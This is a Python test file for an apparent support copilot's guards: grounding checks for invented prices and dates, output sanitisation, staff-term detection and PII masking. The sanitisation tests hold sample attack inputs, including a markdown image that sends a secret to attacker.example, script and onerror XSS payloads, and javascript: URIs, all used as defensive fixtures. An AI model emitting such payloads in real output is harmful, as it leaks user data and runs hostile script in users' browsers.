"""Guards: grounding catches planted hallucinations; output safety; PII masking round-trips."""

from __future__ import annotations

from copilot.guards.grounding import remove_sentences_with, ungrounded
from copilot.guards.output import sanitize, staff_terms
from copilot.guards.pii import Masker

CONTEXT = (
    "pricing: Kaarna HR Core 6,50 € per user per month; implementation 4 900 €.\n"
    "contract.end_date: 2027-03-31\nlatest_order.amount_eur: 1234.50\nContact: Maria Virtanen\n"
    "[1] Support: https://kaarna.example/support answers within 4 hours."
)


def test_faithful_rewording_is_grounded() -> None:
    text = ("HR Core costs 6.50 € a user; setup is 4900 €. Your contract ends 31.3.2027. "
            "See https://kaarna.example/support [1]")
    assert ungrounded(text, CONTEXT) == []


def test_planted_wrong_price_and_invented_date_are_caught() -> None:
    text = "HR Core costs 5,90 € a user. Your contract ends 2027-06-30. Implementation is 4 900 €."
    bad = {c.text for c in ungrounded(text, CONTEXT)}
    assert bad == {"5,90", "2027-06-30"}
    kept, dropped = remove_sentences_with(text, ungrounded(text, CONTEXT))
    assert kept == "Implementation is 4 900 €."
    assert len(dropped) == 2


def test_invented_link_email_and_known_name_are_caught() -> None:
    text = "Write to sales@evil.example or see https://kaarna.example/other. Ask Pekka Salo."
    bad = {c.kind for c in ungrounded(text, CONTEXT, names=["Pekka Salo", "Maria Virtanen"])}
    assert bad == {"email", "url", "name"}
    assert ungrounded("Hello Maria Virtanen", CONTEXT, names=["Maria Virtanen"]) == []


def test_sanitize_removes_exfiltration_and_markup() -> None:
    text = (
        "See ![logo](https://attacker.example/p.png?q=SECRET) and [docs](https://kaarna.example/docs), "
        "[click](http://attacker.example/x) <script>alert(1)</script> <img src=x onerror=alert(1)> "
        "javascript:alert(2)"
    )
    safe, removed = sanitize(text, ["kaarna.example"])
    assert "attacker.example" not in safe
    assert "<" not in safe and ">" not in safe.replace("›", "")
    assert "javascript:" not in safe
    assert "[docs](https://kaarna.example/docs)" in safe
    assert len(removed) >= 5


def test_subdomain_of_allowed_domain_passes_but_lookalike_does_not() -> None:
    safe, _ = sanitize("https://help.kaarna.example/a and https://kaarna.example.evil.io/b", ["kaarna.example"])
    assert "https://help.kaarna.example/a" in safe and "evil.io" not in safe


def test_staff_terms_found_in_fi_and_en() -> None:
    assert staff_terms("Olet VIP-asiakas, arvoluokka korkea") == ["VIP", "arvoluokka"]
    assert staff_terms("Your churn risk is low and your CLV high") == ["CLV", "churn"]
    assert staff_terms("Tervetuloa käyttämään Kaarnaa") == []


def test_pii_masking_round_trip_and_consistent_placeholders() -> None:
    masker = Masker.for_names(["Maria Virtanen"])
    text = "Call Maria Virtanen on +358 40 1234567 or maria.virtanen@acme.example; Maria Virtanen agreed."
    masked = masker.mask(text)
    for secret in ("Maria", "1234567", "acme.example"):
        assert secret not in masked
    assert masked.count("<PERSON_1>") == 2
    assert masker.unmask(masked) == text
    card = masker.mask("card 4111 1111 1111 1111, IBAN FI21 1234 5600 0007 85")
    assert "<CREDIT_CARD_1>" in card and "<IBAN_CODE_1>" in card


def test_claims_of_a_text_are_listed_by_kind_across_its_lines() -> None:
    from copilot.guards.grounding import claims

    text = "Price 6,50 € [1]\nSee https://kaarna.example/a on 2027-03-31\nWrite to a@b.example or call 040 123"
    assert [(c.kind, c.text) for c in claims(text, ["Kaarna"])] == [
        ("url", "https://kaarna.example/a"),
        ("email", "a@b.example"),
        ("date", "2027-03-31"),
        ("number", "6,50"),
        ("number", "040 123"),
        ("name", "Kaarna"),
    ]


def test_sanitize_line_by_line_and_whole_text_agree() -> None:
    # Plain multi-line text takes the line-by-line path; adding "<b>" forces the whole-text one.
    lines = [
        "Hei Maria,", "see evil.io/x and https://kaarna.example/ok", "java", "script:alert(1) and data: text/html;x",
        "onload", "= run()", "ftp://files.example.com", "[1] plain citation", "",
    ]
    text = "\n".join(lines)
    safe, removed = sanitize(text, ["kaarna.example"])
    whole, whole_removed = sanitize(text + "<b>", ["kaarna.example"])
    assert whole == safe and [r for r in whole_removed if r != "<b>"] == removed
    assert "evil.io" not in safe and "https://kaarna.example/ok" in safe and "ftp://" not in safe
    assert removed[:3] == ["data:", "ftp://files.example.com", "evil.io/x"]  # all URLs first, then domains


def test_a_url_that_does_not_parse_is_removed_not_a_crash() -> None:
    safe, removed = sanitize("see http://[evil and https://kaarna.example/a", ["kaarna.example"])
    assert safe == "see [link removed] and https://kaarna.example/a" and removed == ["http://[evil"]


def test_staff_terms_on_several_lines() -> None:
    assert staff_terms("Hei!\nOlet VIP\nchurn-riski\nVIP") == ["VIP", "churn"]
